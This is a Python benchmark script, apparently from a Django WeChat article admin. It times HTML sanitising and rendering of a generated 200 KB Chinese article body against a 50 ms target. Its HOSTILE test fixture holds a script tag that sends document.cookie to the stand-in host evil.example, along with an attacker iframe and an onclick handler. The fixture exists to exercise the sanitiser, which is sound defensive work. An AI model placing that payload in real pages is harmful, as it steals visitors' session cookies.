"""Benchmark: sanitising and rendering a 200 KB article body (issue 25: ≤ 50 ms), against
rendering the same body unsanitised, in the same run.

    .venv/bin/python bench/article_sanitise.py
    .venv/bin/python bench/article_sanitise.py --kb 400 --runs 50

Needs no database or Redis. The body is what an editor pastes from a rich-text editor: styled
sections and paragraphs of Chinese text, bold and links, tables, WeChat-hosted images, and the
things R-CONTENT-02 removes (scripts, an iframe, event handlers, outside images). Measures, as
the median of `--runs`:
1. baseline: `content.render.render_article` of the raw body (no sanitising: the template only);
2. `content.sanitise.sanitise` alone (nh3 plus the report of what it removed);
3. both: sanitise, then render — what saving and previewing a body costs.
"""

from __future__ import annotations

import argparse
import os
import statistics
import sys
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))
os.environ.setdefault("DJANGO_SETTINGS_MODULE", "wxadmin.settings.test")

import django  # noqa: E402

django.setup()

from content.render import render_article  # noqa: E402
from content.sanitise import sanitise  # noqa: E402

PARAGRAPH = (
    '<section style="margin: 0 0 16px; line-height: 1.75; color: #333;"><p style="text-indent: 2em;">'
    "春季新品已经上架，欢迎到店体验。<strong>会员专享</strong>八折优惠，活动时间为三月一日至三月十五日，"
    '详情请见<a href="https://mp.weixin.qq.com/s/abcdef">活动说明</a>。我们为每一位顾客准备了精美礼品，'
    "数量有限，先到先得。</p></section>"
)
TABLE = (
    '<table style="width: 100%;"><tbody><tr><th>商品</th><th>原价</th><th>会员价</th></tr>'
    "<tr><td>保温杯</td><td>99 元</td><td>79 元</td></tr><tr><td>帆布包</td><td>59 元</td><td>47 元</td></tr>"
    "</tbody></table>"
)
IMAGE = (
    '<p style="text-align: center;">'
    '<img src="https://mmbiz.qpic.cn/mmbiz_png/abc123/0?wx_fmt=png" alt="新品"></p>'
)
HOSTILE = (
    '<script>document.location="https://evil.example/?c="+document.cookie</script>'
    '<iframe src="https://evil.example/frame"></iframe><p onclick="steal()">点我</p>'
    '<img src="https://elsewhere.example/hotlink.jpg">'
)


def body_of(kilobytes: int) -> str:
    parts, size, n = [], 0, 0
    while size < kilobytes * 1024:
        chunk = PARAGRAPH if n % 10 else (TABLE + IMAGE)
        if n % 50 == 25:
            chunk += HOSTILE
        parts.append(chunk)
        size += len(chunk.encode())
        n += 1
    return "".join(parts)


def median_ms(func, runs: int) -> float:
    func()  # warm up
    times = []
    for _ in range(runs):
        started = time.perf_counter()
        func()
        times.append((time.perf_counter() - started) * 1000)
    return statistics.median(times)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--kb", type=int, default=200)
    parser.add_argument("--runs", type=int, default=30)
    args = parser.parse_args()
    body = body_of(args.kb)
    article = {"title": "春季上新", "author": "小编", "content": body}
    result = sanitise(body)
    size, kept = len(body.encode()) / 1024, len(result.html.encode()) / 1024
    print(f"body: {size:.0f} KB, {len(body):,} characters; after sanitising {kept:.0f} KB")
    print(f"removed: {dict(result.removed)}, outside images {result.external_images}")
    raw = median_ms(lambda: render_article(article, account_name="基准服务号"), args.runs)
    clean = median_ms(lambda: sanitise(body), args.runs)
    both = median_ms(lambda: render_article(article, account_name="基准服务号", sanitised=False), args.runs)
    print(f"{'render unsanitised (baseline)':36} {raw:8.2f} ms")
    print(f"{'sanitise alone':36} {clean:8.2f} ms")
    print(f"{'sanitise + render':36} {both:8.2f} ms   ({both / raw:.1f}× the baseline)")
    print(f"target ≤ 50 ms: {'met' if both <= 50 else 'NOT met'}")


if __name__ == "__main__":
    main()
